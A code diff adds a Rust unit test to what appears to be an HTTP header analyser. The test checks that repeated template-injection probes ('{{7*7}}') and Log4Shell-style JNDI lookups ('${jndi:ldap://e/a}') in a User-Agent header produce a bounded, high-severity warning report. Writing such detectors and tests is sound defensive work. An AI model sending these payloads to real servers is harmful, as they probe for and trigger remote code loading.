@@ -136,6 +136,28 @@ mod tests {
         assert!(may_warn(b"() {"));
     }
 
+    /// A hostile header of many expressions gives a bounded report: the
+    /// first 32 listed, the rest one warning.
+    #[test]
+    fn many_expressions_are_listed_then_folded() {
+        let agent = "{{7*7}}".repeat(10_000);
+        let w = text_header_warnings("User-Agent", agent.as_bytes());
+        assert_eq!(w.len(), crate::analysis::LISTED_PER_CODE + 1);
+        let last = w.last().expect("the rest");
+        assert_eq!(last.code, WarningCode::TemplateInjection);
+        assert!(
+            last.message
+                .starts_with("9968 more template expressions like those above"),
+            "{}",
+            last.message
+        );
+        assert_eq!(last.spans.len(), 64);
+        let lookups = "${jndi:ldap://e/a}".repeat(100);
+        let w = text_header_warnings("User-Agent", lookups.as_bytes());
+        assert_eq!(w.len(), crate::analysis::LISTED_PER_CODE + 1);
+        assert_eq!(w.last().map(|w| w.severity), Some(Severity::High));
+    }
+
     #[test]
     fn ordinary_agents_say_nothing() {
         for agent in [
